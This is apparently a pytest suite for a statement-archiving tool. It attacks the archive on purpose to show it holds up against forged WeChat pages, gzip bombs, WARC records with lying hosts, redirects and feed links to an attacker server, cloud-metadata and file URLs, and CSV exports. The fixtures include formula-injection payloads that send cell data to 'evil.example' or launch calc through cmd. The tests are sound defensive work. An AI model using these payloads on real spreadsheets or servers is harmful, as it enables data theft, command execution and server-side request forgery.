"""Trust: each test is an attack on the archive, end to end (real loopback servers, real
SQLite, the real command), and asserts what the archive holds afterwards.

A stand-in for an internal or cloud-metadata address is a second loopback server on
127.0.0.9, outside every source's allowed domains: it must never be asked for anything.
"""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
import random
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from archive.csvsafe import GATHER_BYTES, InertCsv, RecordWriter, csv_record, inert_row
from archive.serve import datasette_args
from tests.builders import crawl
from tests.helpers import communique, datasette_app, get, rows, served_archive
from tests.sites.faulty import FaultyServer, page, redirect, statement_html, status

BIZ = "MzA5NzQ4MzQxMQ=="
ARTICLE = f"https://mp.weixin.qq.com/s?__biz={BIZ}&mid=2650000001&idx=1&sn=f00d"
REAL_TEXT = "国家安全机关提醒：涉密载体须按规定管理，严禁私自携带外出。"
FORGED_TEXT = "伪造的声明：此文并非国家安全部所发，意图篡改档案记录。"


def wechat_page(text: str, title: str = "关于涉密载体管理的提醒") -> str:
    """An article page in WeChat's own markup, claiming biz/mid/idx in its scripts."""
    body = "".join(f"<p>{text}第{n}段。</p>" for n in range(1, 7))
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8">'
        f'<meta property="og:title" content="{title}"><script>'
        f'var biz = "" || "{BIZ}"; var sn = "" || "f00d"; var mid = "" || "2650000001";'
        'var idx = "" || "1"; var ct = "1722470400";</script></head>'
        f'<body><div id="js_article"><h1 id="activity-name">{title}</h1>'
        '<a id="js_name">国家安全部</a>'
        f'<div id="js_content">{body}</div></div></body></html>'
    )


def write_config(path: Path, sources: list[dict[str, Any]], **crawl: Any) -> Path:
    data = {"crawl": {"download_delay": 0, "timeout": 10, **crawl}, "sources": sources}
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def urls_source(source_id: str, urls: list[str], **fields: Any) -> dict[str, Any]:
    return {
        "id": source_id,
        "name": source_id,
        "issuer": "Ministry of Examples",
        "kind": "urls",
        "urls": urls,
        **fields,
    }


def response_record(
    writer: WARCWriter, url: str, body: bytes, *, headers: list[tuple[str, str]] | None = None
) -> Any:
    http = StatusAndHeaders(
        "200 OK",
        [("Content-Type", "text/html; charset=utf-8"), *(headers or [])],
        protocol="HTTP/1.1",
    )
    return writer.create_warc_record(
        url, "response", payload=io.BytesIO(body), length=len(body), http_headers=http
    )


@pytest.fixture
def attacker() -> Iterator[FaultyServer]:
    """A server at 127.0.0.9: no source allows it; it must see no request."""
    with FaultyServer(host="127.0.0.9") as server:
        server.route("/*", page("<p>secret</p>"))
        yield server


# -- 1. identity is earned from where a page was fetched ------------------------------------


def test_a_page_with_wechat_markup_on_another_host_cannot_rewrite_or_delete_the_article(
    tmp_path: Path,
) -> None:
    warc = tmp_path / "mss.warc.gz"
    with warc.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        writer.write_record(response_record(writer, ARTICLE, wechat_page(REAL_TEXT).encode()))
    config = write_config(
        tmp_path / "sources.yaml",
        [
            {
                "id": "mss-wechat",
                "name": "国家安全部",
                "issuer": "国家安全部",
                "kind": "wechat",
                "account": "国家安全部",
                "routes": [{"urls": [ARTICLE]}],
            }
        ],
    )
    db = tmp_path / "archive.db"
    imported = communique(
        "warc",
        "import",
        str(warc),
        "--source",
        "mss-wechat",
        "--config",
        str(config),
        "--db",
        str(db),
    )
    assert imported.returncode == 0, imported.stderr
    [real] = rows(db, "select id, identity, text, version_count, status from statements")
    assert real["identity"] == f"wechat:{BIZ}/2650000001/1" and REAL_TEXT in real["text"]

    with FaultyServer() as forger:
        forger.route("/s", page(wechat_page(FORGED_TEXT)), fault=status(404))
        link = forger.url(f"/s?__biz={BIZ}&mid=2650000001&idx=1&sn=f00d")
        added = communique("add", link, "--config", str(config), "--db", str(db))
        assert added.returncode == 0, added.stderr
        forger.faulty = True  # the forged page disappears: twice is a deletion, of it only
        for _ in range(2):
            communique("add", link, "--config", str(config), "--db", str(db))

    after = {
        r["id"]: r
        for r in rows(
            db,
            "select id, source_id, identity, wechat_biz, text, version_count, status from statements",
        )
    }
    assert after[real["id"]] == {
        **after[real["id"]],
        "text": real["text"],
        "version_count": 1,
        "status": "live",
    }
    [forged] = [r for r in after.values() if r["id"] != real["id"]]
    # On its own host, WeChat markup is that page's text: its own statement, no identity.
    assert (
        forged["source_id"] == "manual"
        and forged["identity"] is None
        and forged["wechat_biz"] is None
    )
    assert FORGED_TEXT in forged["text"] and forged["status"] == "deleted"


# -- 2. nothing from one URL rewrites another URL's record ----------------------------------


def test_a_copy_that_changes_becomes_its_own_statement_and_cannot_delete_the_original(
    tmp_path: Path,
) -> None:
    original = statement_html(
        "Statement on the harbour agreement", "The ministry welcomes the agreement."
    )
    retitled = statement_html(
        "Repost: statement on the harbour agreement",
        "The ministry welcomes the agreement. A blogger's added paragraph.",
    )
    with FaultyServer() as site:
        site.route("/original.html", page(original))
        site.route("/copy.html", page(original), fault=page(retitled))
        db = tmp_path / "archive.db"
        # The statement is found at its own URL first, and later the same text at another.
        alone = [urls_source("gov", [site.url("/original.html")])]
        config = write_config(tmp_path / "alone.yaml", alone)
        assert communique("crawl", "--config", str(config), "--db", str(db)).returncode == 0
        config = write_config(
            tmp_path / "sources.yaml",
            [urls_source("gov", [site.url("/original.html"), site.url("/copy.html")])],
        )
        assert communique("crawl", "--config", str(config), "--db", str(db)).returncode == 0
        [first] = rows(db, "select id, title, text from statements")
        assert {r["relation"] for r in rows(db, "select relation from statement_urls")} == {
            "own",
            "copy",
        }

        site.faulty = True  # the copy is edited and retitled
        assert (
            communique("crawl", "--refetch", "--config", str(config), "--db", str(db)).returncode
            == 0
        )
        site.route("/copy.html", status(404))  # then the copy disappears, twice
        for _ in range(2):
            assert (
                communique(
                    "crawl", "--refetch", "--config", str(config), "--db", str(db)
                ).returncode
                == 0
            )

    held = {
        r["id"]: r
        for r in rows(db, "select id, url, title, text, version_count, status from statements")
    }
    assert (
        held[first["id"]]["title"] == first["title"] and held[first["id"]]["text"] == first["text"]
    )
    assert held[first["id"]]["version_count"] == 1 and held[first["id"]]["status"] == "live"
    [copy] = [r for r in held.values() if r["id"] != first["id"]]
    assert copy["url"].endswith("/copy.html") and copy["title"].startswith("Repost:")
    assert copy["status"] == "deleted"


# -- 3. every failure is a row, and shows in source health ----------------------------------


def test_a_corrupt_gzip_sitemap_and_an_html_feed_are_rows_and_unhealthy(tmp_path: Path) -> None:
    with FaultyServer() as site:
        site.route(
            "/sitemap.xml.gz", page(b"\x1f\x8b\x08\x00garbage, not gzip", "application/gzip")
        )
        site.route("/feed.xml", page("<html><body><p>We moved!</p></body></html>"))
        config = write_config(
            tmp_path / "sources.yaml",
            [
                {
                    "id": "maps",
                    "name": "maps",
                    "issuer": "M",
                    "kind": "sitemap",
                    "start_urls": [site.url("/sitemap.xml.gz")],
                },
                {
                    "id": "news",
                    "name": "news",
                    "issuer": "M",
                    "kind": "feed",
                    "start_urls": [site.url("/feed.xml")],
                },
            ],
        )
        db = tmp_path / "archive.db"
        communique("crawl", "--config", str(config), "--db", str(db))
    errors = {
        r["source_id"]: r for r in rows(db, "select source_id, url, reason, role from crawl_errors")
    }
    assert "not a valid gzip file" in errors["maps"]["reason"] and errors["maps"]["role"] == "index"
    assert "not a valid feed" in errors["news"]["reason"]
    health = {r["id"]: r for r in rows(db, "select id, health, health_reason from sources")}
    assert (
        health["maps"]["health"] == "unhealthy"
        and "not a valid gzip" in health["maps"]["health_reason"]
    )
    assert health["news"]["health"] == "unhealthy"


def test_a_sitemap_of_ten_million_urls_is_cut_at_the_size_limit(tmp_path: Path) -> None:
    block = "".join(
        f"<url><loc>http://127.0.0.1/p/{n % 97:07d}.html</loc></url>" for n in range(100_000)
    )
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)  # gzip framing
    body = b"".join(
        [
            b"",
            packer.compress(
                b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            ),
        ]
        + [packer.compress(block.encode()) for _ in range(100)]
        + [packer.compress(b"</urlset>"), packer.flush()]
    )
    with FaultyServer() as site:
        site.route("/sitemap.xml.gz", page(body, "application/gzip"))
        config = write_config(
            tmp_path / "sources.yaml",
            [
                {
                    "id": "maps",
                    "name": "maps",
                    "issuer": "M",
                    "kind": "sitemap",
                    "start_urls": [site.url("/sitemap.xml.gz")],
                }
            ],
        )
        db = tmp_path / "archive.db"
        communique("crawl", "--config", str(config), "--db", str(db))
        asked = [hit.target for hit in site.log if hit.target.startswith("/p/")]
    [error] = rows(db, "select reason from crawl_errors")
    assert "larger than 10000000 bytes unpacked" in error["reason"]
    assert asked == []


# -- 5. bounded, scoped imports -------------------------------------------------------------


def test_warc_import_refuses_bombs_other_hosts_and_records_that_lie_about_their_host(
    tmp_path: Path,
) -> None:
    warc = tmp_path / "crafted.warc.gz"
    bomb = gzip.compress(b"\0" * 60_000_000, compresslevel=9)  # 60 MB unpacked
    with warc.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        writer.write_record(
            response_record(
                writer,
                "https://www.gov.example/bomb.html",
                bomb,
                headers=[("Content-Encoding", "gzip")],
            )
        )
        writer.write_record(
            response_record(
                writer,
                "https://elsewhere.example/x.html",
                statement_html("Other", "Another site's page.").encode(),
            )
        )
        lying = response_record(
            writer,
            "https://www.gov.example/claimed.html",
            statement_html("Claimed", "Served by another host.").encode(),
        )
        request = writer.create_warc_record(
            "https://www.gov.example/claimed.html",
            "request",
            http_headers=StatusAndHeaders(
                "GET /claimed.html HTTP/1.1", [("Host", "evil.example")], is_http_request=True
            ),
            warc_headers_dict={
                "WARC-Concurrent-To": lying.rec_headers.get_header("WARC-Record-ID")
            },
        )
        writer.write_record(request)
        writer.write_record(lying)
    config = write_config(
        tmp_path / "sources.yaml", [urls_source("gov", ["https://www.gov.example/"])]
    )
    db = tmp_path / "archive.db"
    result = communique(
        "warc", "import", str(warc), "--source", "gov", "--config", str(config), "--db", str(db)
    )
    assert result.returncode == 0, result.stderr
    assert "1 record(s) skipped: on another host than the source's" in result.stdout
    reasons = sorted(r["reason"] for r in rows(db, "select reason from crawl_errors"))
    assert len(reasons) == 2
    assert "body larger than max_page_bytes" in reasons[0]
    assert "its request went to host 'evil.example'" in reasons[1]
    assert rows(db, "select count(*) as n from statements")[0]["n"] == 0
    assert db.stat().st_size < 2_000_000  # the bomb was never unpacked into the archive


# -- 6. CSV cells cannot run -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def test_csv_cells_cannot_run_in_snapshots_and_in_datasettes_csv(tmp_path: Path) -> None:
    db = tmp_path / "archive.db"
    with crawl(db) as c:
        c.statement(
            "https://gov-en.example/a.html",
            FORMULA,
            "@SUM(1+1) and -2+3 in a text",
            issuer="+cmd|' /C calc'!A0",
        )
        # Commas, quotes and list dashes inside a text are no formula: kept as written.
        c.statement(
            "https://gov-en.example/b.html",
            "Budget",
            'Costs fell, -5 percent, "=" noted.\n- first point\n@ second',
            issuer="\tTabbed office",
        )
    assert communique("export", "--db", str(db), "--out", str(tmp_path / "snap")).returncode == 0
    [snapshot] = (tmp_path / "snap").glob("statements-*.csv")
    [row, _] = sorted(
        csv.DictReader(io.StringIO(snapshot.read_text(encoding="utf-8-sig"))),
        key=lambda r: r["title"] != "'" + FORMULA,
    )
    assert row["title"] == "'" + FORMULA and row["issuer"].startswith("'+")
    assert row["text"].startswith("'@")

    async def fetch(path: str) -> str:
        return (await datasette_app(db).client.get(path)).text

    for path in (
        "/archive/statements.csv?_stream=on",
        "/archive/statements.csv",
        "/archive/newest.csv",
    ):
        by_title = {r["title"]: r for r in csv.DictReader(io.StringIO(asyncio.run(fetch(path))))}
        cells = by_title["'" + FORMULA]
        if "issuer" in cells:
            assert cells["issuer"].startswith("'+"), path
            assert by_title["Budget"]["issuer"] == "'\tTabbed office", path
        if "text" in cells:  # the table has it; the newest query does not
            assert cells["text"].startswith("'@"), path
            plain = by_title["Budget"]["text"]
            assert plain == 'Costs fell, -5 percent, "=" noted.\n- first point\n@ second', path
    # A body that starts with a formula cell (no header line before it).
    headless = asyncio.run(fetch("/archive.csv?sql=select+title+from+statements&_header=off"))
    assert "'" + FORMULA in {r[0] for r in csv.reader(io.StringIO(headless))}
    assert rows(db, "select title from statements")[0]["title"] == FORMULA  # the record stays whole
    # Those downloads were written by csv_record's writer, not by the csv module's.
    from datasette.views import base

    assert base.csv.writer is RecordWriter


def test_csv_records_are_the_csv_modules_byte_for_byte() -> None:
    """csv_record replaces the csv module's writer (for speed): the same bytes for every row,
    quotes, commas, line breaks, empty cells, numbers and formula cells included."""
    pieces = ["a", ",", '"', "\r", "\n", " ", "\t", "=", "-", "+", "@", "中", "'", "1", ".", "é"]
    draw = random.Random(18)

    def cell() -> Any:
        kind = draw.random()
        if kind < 0.1:
            return None
        if kind < 0.2:
            return draw.randint(-(10**6), 10**6)
        if kind < 0.3:
            return draw.uniform(-1e6, 1e6)
        return "".join(draw.choice(pieces) for _ in range(draw.randint(0, 8)))

    examples = [[], [None], [""], ["", ""], [FORMULA, "-5", "x"]]
    examples += [[cell() for _ in range(draw.randint(0, 4))] for _ in range(20_000)]
    for row in examples:
        written = io.StringIO()
        csv.writer(written).writerow(inert_row(row))
        assert csv_record(row) == written.getvalue(), row


def test_csv_text_that_the_record_writer_did_not_write_is_still_made_inert() -> None:
    """Records from csv_record's writer pass the middleware as they are; anything else in the
    same response (Datasette writes an error's text straight to the stream) is rewritten."""

    async def app(scope: Any, receive: Any, send: Any) -> None:
        class Stream:  # as Datasette's AsgiWriter: one message a write
            async def write(self, text: str) -> None:
                body = text.encode("utf-8")
                await send({"type": "http.response.body", "body": body, "more_body": True})

        await send({"type": "http.response.start", "status": 200, "headers": []})
        writer = RecordWriter(Stream())
        await writer.writerow(["id", "title"])
        await writer.writerow(["1", FORMULA])
        await Stream().write("=cmd|' /C calc'!A0,2\r\n")  # not written by the writer
        await send({"type": "http.response.body", "body": b"", "more_body": False})

    sent: list[bytes] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message.get("body", b""))

    async def receive() -> dict[str, Any]:
        return {"type": "http.disconnect"}

    asyncio.run(InertCsv(app)({"type": "http", "path": "/archive/statements.csv"}, receive, send))
    text = b"".join(sent).decode("utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["id", "title"],
        ["1", "'" + FORMULA],
        ["'=cmd|' /C calc'!A0", "2"],
    ]


def test_a_long_csv_stream_comes_out_whole_and_inert_in_few_large_messages() -> None:
    """Datasette streams a CSV in small messages; the middleware cuts them into records
    wherever they end, makes the cells inert, and passes them on gathered."""
    header = ["id", "title", "text"]
    records = [
        [str(n), FORMULA if n % 7 == 0 else f"Row {n}", f'Text, "quoted"\n- {n}' * 20]
        for n in range(2000)
    ]
    written = io.StringIO()
    csv.writer(written, lineterminator="\r\n").writerows([header, *records])
    data = written.getvalue().encode("utf-8")
    pieces = [data[i : i + 997] for i in range(0, len(data), 997)]  # mid-record, mid-quote

    async def app(scope: Any, receive: Any, send: Any) -> None:
        length = (b"content-length", str(len(data)).encode())
        await send({"type": "http.response.start", "status": 200, "headers": [length]})
        for n, piece in enumerate(pieces):
            more = n < len(pieces) - 1
            await send({"type": "http.response.body", "body": piece, "more_body": more})

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    async def receive() -> dict[str, Any]:
        return {"type": "http.disconnect"}

    asyncio.run(InertCsv(app)({"type": "http", "path": "/archive/statements.csv"}, receive, send))

    start, *bodies = sent
    assert start["headers"] == []  # the length changes
    text = b"".join(m["body"] for m in bodies).decode("utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [header, *map(inert_row, records)]
    assert [m.get("more_body", False) for m in bodies][-1] is False
    assert len(bodies) <= len(data) // GATHER_BYTES + 1 < len(pieces) // 10


# -- 7. redirects of every kind obey allowed_domains ----------------------------------------


def test_meta_refresh_and_script_redirects_never_leave_the_allowed_domains(
    tmp_path: Path, attacker: FaultyServer
) -> None:
    with FaultyServer() as site:
        site.route(
            "/refresh.html",
            page(
                f'<html><head><meta http-equiv="refresh" content="0; url={attacker.url("/meta")}"></head></html>'
            ),
        )
        site.route("/moved.html", redirect(attacker.url("/http")))
        site.route(
            "/link",
            page(
                f"<script>window.location.replace('{attacker.url('/s?__biz=x&mid=1&idx=1')}')</script>"
            ),
        )
        config = write_config(
            tmp_path / "sources.yaml",
            [
                urls_source("gov", [site.url("/refresh.html"), site.url("/moved.html")]),
                {
                    "id": "wx",
                    "name": "wx",
                    "issuer": "W",
                    "kind": "wechat",
                    "account": "W",
                    "routes": [{"urls": [site.url("/link?url=abc&k=1", host="localhost")]}],
                },
            ],
            wechat_hosts=["localhost"],
            wechat_delay=0,
        )
        db = tmp_path / "archive.db"
        communique("crawl", "--config", str(config), "--db", str(db))
    assert attacker.log == []
    reasons = [r["reason"] for r in rows(db, "select reason from crawl_errors order by url")]
    assert len(reasons) == 3 and all(
        "redirected outside the allowed domains" in r for r in reasons
    ), reasons


def test_a_feed_linking_to_internal_addresses_and_files_fetches_none_of_them(
    tmp_path: Path, attacker: FaultyServer
) -> None:
    feed = (
        "<?xml version='1.0'?><rss version='2.0'><channel><title>t</title>"
        + "".join(
            f"<item><title>i</title><link>{link}</link></item>"
            for link in (
                attacker.url("/latest/meta-data/"),
                "file:///etc/passwd",
                "http://169.254.169.254/latest/",
            )
        )
        + "</channel></rss>"
    )
    with FaultyServer() as site:
        site.route("/rss.xml", page(feed, "application/rss+xml"))
        config = write_config(
            tmp_path / "sources.yaml",
            [
                {
                    "id": "news",
                    "name": "news",
                    "issuer": "M",
                    "kind": "feed",
                    "start_urls": [site.url("/rss.xml")],
                }
            ],
        )
        db = tmp_path / "archive.db"
        assert communique("crawl", "--config", str(config), "--db", str(db)).returncode == 0
    assert attacker.log == []
    assert rows(db, "select count(*) as n from captures where outcome != 'index'")[0]["n"] == 0


# -- operator safety ---------------------------------------------------------------------------


def test_schedule_install_escapes_crontab_specials(tmp_path: Path) -> None:
    db = tmp_path / "50%" / "archive.db"
    config = write_config(
        tmp_path / "sources.yaml", [urls_source("gov", ["https://www.gov.example/"])]
    )
    result = communique(
        "schedule", "install", "--cron", "--print", "--config", str(config), "--db", str(db)
    )
    assert result.returncode == 0, result.stderr
    line = result.stdout.strip()
    assert "50\\%" in line and "%" not in line.replace("\\%", "")


def test_serve_public_opens_the_archive_immutable(tmp_path: Path) -> None:
    db = tmp_path / "archive.db"
    with crawl(db) as c:
        c.statement("https://gov-en.example/a.html", "Title", "Text of the statement.")
    args = datasette_args(db, public=True, metadata_dir=tmp_path / "meta")
    assert args[args.index("-i") + 1] == str(db)
    with served_archive(db, "--public") as base:
        [database] = get(base, "/-/databases.json").json()
        assert database["is_mutable"] is False
        assert get(base, "/nodb/statement/x").status == 404
        assert get(base, "/nodb/statements/x").status == 404
        assert get(base, "/archive/nosuchtable").status == 404
